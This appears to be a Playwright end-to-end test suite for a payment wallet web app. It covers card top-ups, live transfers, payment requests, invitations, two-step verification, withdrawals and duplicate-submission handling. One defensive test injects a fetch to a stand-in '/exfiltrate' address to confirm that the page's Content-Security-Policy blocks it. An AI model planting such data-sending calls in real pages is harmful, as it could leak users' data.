"""The journey of issue 15 by hand, in a real browser: two people sign up, one tops up with a
test card and pays the other, who sees it arrive live; the other asks for money back and is
paid. Then the screens a person visits less often: invitations, 2FA, withdrawal, devices."""
from __future__ import annotations

import re

import pyotp
from playwright.sync_api import Browser, Route, expect

from tests.browser.conftest import PASSWORD, Person


def top_up_with_test_card(ana: Person, amount: str) -> None:
    page = ana.nav("Add money")
    page.get_by_role("button", name="Add a card").click()
    card = page.get_by_test_id("card-element")
    # Stripe.js (here the local stand-in's copy) draws the card fields; their names are its own.
    card.get_by_placeholder("number").fill("4242424242424242")
    card.get_by_placeholder("exp_month").fill("12")
    card.get_by_placeholder("exp_year").fill("34")
    card.get_by_placeholder("cvc").fill("123")
    card.get_by_placeholder("postal_code").fill("42424")
    ana.shot("add-card")
    page.get_by_role("button", name="Save card").click()
    expect(page.get_by_role("listitem").filter(has_text="Visa ending 4242")).to_be_visible()
    page.get_by_label("Amount").fill(amount)
    page.get_by_role("button", name="Add money").click()
    expect(ana.status("added to your wallet")).to_be_visible()
    ana.shot("top-up")


def test_sign_up_top_up_pay_live_and_request_back(people: dict[str, Person]) -> None:
    ana, ben = people["Ana"], people["Ben"]
    # Each proves the e-mail first (the verify screen opens before anything else): e-mails are
    # payment addresses only once proven.
    ana.sign_up("Ana", "Bell")
    ben.sign_up("Ben", "Cole")
    ana.shot("home-new")

    top_up_with_test_card(ana, "50")
    ana.nav("Home")
    expect(ana.page.get_by_test_id("balance-USD")).to_have_text("$50.00")
    expect(ana.page.get_by_test_id("transactions")).to_contain_text("Card top-up")

    # Ben watches his home screen while Ana pays him.
    ben.nav("Home")
    expect(ben.page.get_by_test_id("balance-USD")).to_have_text("$0.00")
    page = ana.nav("Send")
    page.get_by_label("To (e-mail or phone)").fill(ben.email)
    page.get_by_label("Amount").fill("12.50")
    page.get_by_label("Note (optional)").fill("lunch")
    ana.shot("send")
    page.get_by_role("button", name="Send", exact=True).click()
    expect(ana.status("Sent $12.50 to")).to_be_visible()
    # Live: no reload on Ben's side, the socket brings it (the contract says within 5 s).
    expect(ben.page.get_by_test_id("toast")).to_have_text("You received $12.50 from Ana B.", timeout=10_000)
    expect(ben.page.get_by_test_id("balance-USD")).to_have_text("$12.50", timeout=10_000)
    expect(ben.page.get_by_test_id("unread-badge")).to_have_text("1")
    expect(ben.page.get_by_test_id("transactions")).to_contain_text("lunch")
    ben.shot("home-paid-live")

    # Ben asks for 5.00 back; Ana, on her requests screen, sees it arrive and pays it.
    ana.nav("Requests")
    page = ben.nav("Requests")
    page.get_by_label("From (their e-mail or phone)").fill(ana.email)
    page.get_by_label("Amount").fill("5")
    page.get_by_label("What for (optional)").fill("change")
    page.get_by_role("button", name="Send request").click()
    expect(ben.status("Asked Ana B. for $5.00.")).to_be_visible()
    ben.shot("request-sent")
    incoming = ana.page.get_by_test_id("incoming-request").filter(has_text="Ben C. asks for $5.00")
    expect(incoming).to_be_visible(timeout=10_000)
    ana.shot("request-incoming")
    incoming.get_by_role("button", name="Pay $5.00 to Ben C.").click()
    expect(incoming).to_contain_text("paid")
    expect(ben.page.get_by_test_id("toast")).to_have_text("Ana B. paid your request for $5.00.", timeout=10_000)
    expect(ben.page.get_by_test_id("outgoing-request").first).to_contain_text("paid")
    ben.shot("request-paid")

    ben.nav("Home")
    expect(ben.page.get_by_test_id("balance-USD")).to_have_text("$17.50")
    ana.nav("Home")
    expect(ana.page.get_by_test_id("balance-USD")).to_have_text("$32.50")
    ana.shot("home-after")

    page = ben.nav("Notifications")
    notices = page.get_by_test_id("notifications")
    expect(notices).to_contain_text("You received $12.50 from Ana B.")
    expect(notices).to_contain_text("Ana B. paid your request for $5.00.")
    ben.shot("notifications")
    page.get_by_role("button", name="Mark all as read").click()
    expect(ben.page.get_by_test_id("unread-badge")).to_have_count(0)


def test_invitation_two_step_withdrawal_and_screens(people: dict[str, Person]) -> None:
    ana = people["Ana"]
    ana.sign_up("Ana", "Bell")
    top_up_with_test_card(ana, "30")

    # Someone not on the wallet: the confirmation, the invitation, and its cancel.
    page = ana.nav("Send")
    stranger = f"new.{ana.email}"
    page.get_by_label("To (e-mail or phone)").fill(stranger)
    page.get_by_label("Amount").fill("4.00")
    page.get_by_role("button", name="Send", exact=True).click()
    dialog = page.get_by_role("alertdialog", name="Not on the wallet yet")
    expect(dialog).to_contain_text(f"Nobody on the wallet has verified {stranger}")
    ana.shot("invite-confirm")
    dialog.get_by_role("button", name="Send invitation").click()
    expect(ana.status("Invitation sent")).to_be_visible()
    # The money is held for them at once...
    expect(page.get_by_label("From")).to_contain_text("$26.00 available")
    ana.shot("invite-sent")
    page.get_by_role("button", name="Cancel the invitation").click()
    expect(ana.status("Invitation canceled")).to_be_visible()
    # ...and back when the invitation is canceled.
    expect(page.get_by_label("From")).to_contain_text("$30.00 available")

    # A mistake is explained in words, not codes.
    page.get_by_label("To (e-mail or phone)").fill(ana.email)
    page.get_by_label("Amount").fill("4.005")
    page.get_by_role("button", name="Send", exact=True).click()
    expect(page.get_by_role("alert")).to_have_text("Please check the amount.")
    page.get_by_label("Amount").fill("999")
    page.get_by_label("To (e-mail or phone)").fill(f"other.{ana.email}")
    page.get_by_role("button", name="Send", exact=True).click()
    page.get_by_role("alertdialog").get_by_role("button", name="Send invitation").click()
    expect(page.get_by_role("alert")).to_have_text("There is not enough available money in this wallet.")
    ana.shot("send-error")

    # Two-step verification: the password first (step-up), then QR code, the code from an
    # authenticator, recovery codes.
    page = ana.nav("Security")
    page.get_by_test_id("mfa-setup").get_by_label("Your password").fill(PASSWORD)
    page.get_by_role("button", name="Set up two-step verification").click()
    expect(page.get_by_role("img", name="QR code for your authenticator app")).to_be_visible()
    secret = page.get_by_test_id("totp-secret").inner_text()
    ana.shot("2fa-qr")
    totp = pyotp.TOTP(secret)
    page.get_by_label("Code from the app").fill(totp.now())
    page.get_by_role("button", name="Turn on").click()
    codes = page.get_by_test_id("recovery-codes").get_by_role("listitem")
    expect(codes).to_have_count(10)
    recovery, another = codes.first.inner_text(), codes.nth(1).inner_text()
    ana.shot("2fa-recovery-codes")

    # Connecting the bank account is step-up: with 2FA on, a code (the app's was just spent
    # turning 2FA on, codes are single-use: a recovery code).
    page = ana.nav("Withdraw")
    page.get_by_test_id("payout-connect").get_by_label("Authenticator code").fill(another)
    page.get_by_role("button", name="Connect a bank account").click()
    # Withdraw with a code: a wrong one is refused in words, a right one holds the money.
    page.get_by_label("Amount").fill("10")
    page.get_by_label("Authenticator code").fill("000000")
    page.get_by_role("button", name="Withdraw").click()
    expect(page.get_by_role("alert")).to_have_text("That authenticator code is wrong or was already used.")
    # The app's code was just spent turning 2FA on (codes are single-use): a recovery code.
    page.get_by_label("Authenticator code").fill(recovery)
    page.get_by_role("button", name="Withdraw").click()
    expect(ana.status("$10.00: On its way to your bank.")).to_be_visible()
    ana.shot("withdraw")
    ana.nav("Home")
    expect(ana.page.get_by_test_id("available-USD")).to_have_text(re.compile(r"\$20\.00"))

    # Amounts per currency: a yen wallet shows no decimals.
    page = ana.page
    page.get_by_label("Currency").select_option("JPY")
    page.get_by_role("button", name="Open wallet").click()
    expect(page.get_by_test_id("balance-JPY")).to_have_text("¥0")
    ana.shot("home-jpy")

    ana.nav("Offline")
    expect(ana.page.get_by_role("button", name="Register this device")).to_be_visible()
    ana.shot("offline")

    # Signed out, then back in; and the forgotten-password screen.
    ana.page.get_by_role("button", name="Sign out").click()
    page = ana.page
    expect(page.locator("h1")).to_have_text("Sign in")
    page.get_by_label("E-mail").fill(ana.email)
    page.get_by_label("Password").fill("not the password at all")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_have_text("That e-mail and password do not match an account.")
    ana.shot("sign-in-error")
    page.get_by_role("link", name="Forgot your password?").click()
    expect(page.locator("h1")).to_have_text("Reset your password")  # before typing: not into the old form
    page.get_by_label("E-mail").fill(ana.email)
    page.get_by_role("button", name="Send me a code").click()
    expect(page.get_by_role("status")).to_contain_text("a 6-digit code is on its way")
    ana.shot("forgot-password")
    page.get_by_role("link", name="Back to sign in").click()
    expect(page.locator("h1")).to_have_text("Sign in")
    page.get_by_label("E-mail").fill(ana.email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("h1")).to_have_text("Hello, Ana")


def test_the_page_may_talk_only_to_the_wallet_and_stripe(browser: Browser, stack: dict[str, str]) -> None:
    """Its Content-Security-Policy is in force: a call to any other origin (here another
    loopback address) is blocked before it leaves the browser, and the page cannot be framed."""
    context = browser.new_context()
    page = context.new_page()
    response = page.goto(stack["WEB_URL"] + "/#/signin")
    assert response is not None and "frame-ancestors 'none'" in response.headers["content-security-policy"]
    expect(page.locator("h1")).to_have_text("Sign in")
    blocked = page.evaluate("""() => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective));
        fetch('http://127.0.0.2:9/exfiltrate').catch(() => {});
    })""")
    assert blocked == "connect-src"
    context.close()


def test_a_lost_answer_resent_pays_once_and_a_second_payment_on_purpose_pays_again(
        people: dict[str, Person]) -> None:
    ana = people["Ana"]
    ana.sign_up("Ana", "Bell")
    top_up_with_test_card(ana, "30")
    page = ana.nav("Send")
    stranger = f"friend.{ana.email}"
    lost: list[int] = []

    def lose_the_answer(route: Route) -> None:
        sent = route.request.post_data_json if route.request.method == "POST" else None
        if sent and sent["to"].get("invite") and not lost:
            lost.append(route.fetch().status)  # the server does it...
            route.abort()  # ...and the answer never reaches the page
            return
        route.fallback()

    page.route("**/transfers", lose_the_answer)
    page.get_by_label("To (e-mail or phone)").fill(stranger)
    page.get_by_label("Amount").fill("4")
    page.get_by_role("button", name="Send", exact=True).click()
    page.get_by_role("alertdialog").get_by_role("button", name="Send invitation").click()
    expect(page.get_by_role("alert")).to_contain_text("cannot tell whether this went through")
    assert lost == [201]
    # The person tries again the natural way: the form's Send, then the invitation again.
    page.get_by_role("button", name="Send", exact=True).click()
    page.get_by_role("alertdialog").get_by_role("button", name="Send invitation").click()
    expect(ana.status("Invitation sent")).to_be_visible()
    expect(page.get_by_label("From")).to_contain_text("$26.00 available")  # held once, not twice
    ana.shot("resent-once")
    # The same invitation again, on purpose, after a clear answer: a second one.
    page.get_by_role("button", name="Send", exact=True).click()
    page.get_by_role("alertdialog").get_by_role("button", name="Send invitation").click()
    expect(page.get_by_label("From")).to_contain_text("$22.00 available")
